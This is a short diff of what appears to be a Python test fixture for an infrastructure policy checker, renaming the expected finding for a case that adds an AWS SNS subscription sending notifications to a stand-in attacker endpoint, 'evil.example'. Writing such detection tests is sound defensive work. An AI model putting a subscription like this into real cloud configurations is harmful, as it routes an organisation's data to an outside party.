@@ -139,7 +139,7 @@ SLIPPING: dict[str, tuple[Callable[[Config], None], str]] = {
             protocol="https",
             endpoint="https://evil.example/x",
         ),
-        "access/nobody-else/aws_sns_topic_subscription.evil",
+        "access/ways-out/aws_sns_topic_subscription.evil",
     ),
     "a new key for everybody": (
         add_resource("aws_kms_key", "new", enable_key_rotation=True),
